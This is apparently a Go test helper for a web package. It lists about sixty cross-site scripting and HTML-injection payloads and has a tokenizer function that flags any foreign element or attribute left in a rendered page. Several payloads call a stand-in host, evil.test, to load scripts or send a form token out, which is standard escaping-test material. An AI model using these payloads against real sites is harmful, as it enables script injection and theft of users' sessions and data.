package web

import (
	"strings"

	"golang.org/x/net/html"
)

// payloads are texts that would do harm in a page if they were not text there.
var payloads = []string{
	"<script>alert(1)</script>", "</script><script>alert(1)</script>", `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, "</textarea><script>alert(1)</script>",
	"</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
	"<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<script>\u2028alert(1)</script>",
	"<img src=x onerror=alert(1)>", `"><img src=x onerror=alert(1)>`, "<img/src=x/onerror=alert(1)>", "<img src=http://evil.test/x.png>", "<img src=`x`onerror=alert(1)>",
	"<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
	"<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
	"<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "javascript:alert(1)", "<form action=http://evil.test><input name=token>", "<button formaction=javascript:alert(1)>x</button>",
	"<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<base href=http://evil.test/>", "<link rel=stylesheet href=http://evil.test/x.css>", "<meta http-equiv=refresh content='0;url=http://evil.test'>", "<style>*{background:url(http://evil.test)}</style>",
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=alert(1)", `" autofocus onfocus="alert(1)" x="`, `x" style="background:url(http://evil.test)`,
	"{{.Token}}", "{{template \"token\" .}}", "${alert(1)}", "__f__function(){alert(1)}__f__", "<div hx-get=/settings hx-trigger=load>",
	"<div data-hx-on:load=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "<!--<script>alert(1)//-->", "<em>UHOH</em>",
}

// foreign gives the first element or attribute of a page that can't be the
// page's own: scripts of its own address apart, nothing runs or loads.
func foreign(page string) string {
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			return ""
		}
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		t := z.Token()
		switch t.Data {
		case "em", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "marquee", "base", "style", "mglyph", "animate", "source":
			return t.String()
		}
		kindOf, src := "", ""
		for _, a := range t.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), strings.HasPrefix(a.Key, "data-hx"), a.Key == "srcdoc", a.Key == "style", a.Key == "formaction", a.Key == "http-equiv":
				return t.String()
			case a.Key == "href" && !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "#") && a.Val != "data:,", a.Key == "action" && !strings.HasPrefix(a.Val, "/"),
				strings.HasPrefix(a.Key, "hx-get") && !strings.HasPrefix(a.Val, "/working") && !strings.HasPrefix(a.Val, "/import/"):
				return t.String()
			case a.Key == "type":
				kindOf = a.Val
			case a.Key == "src":
				src = a.Val
			}
		}
		if t.Data == "script" && kindOf != "application/json" && !strings.HasPrefix(src, "/assets/") || t.Data != "script" && src != "" {
			return t.String()
		}
	}
}
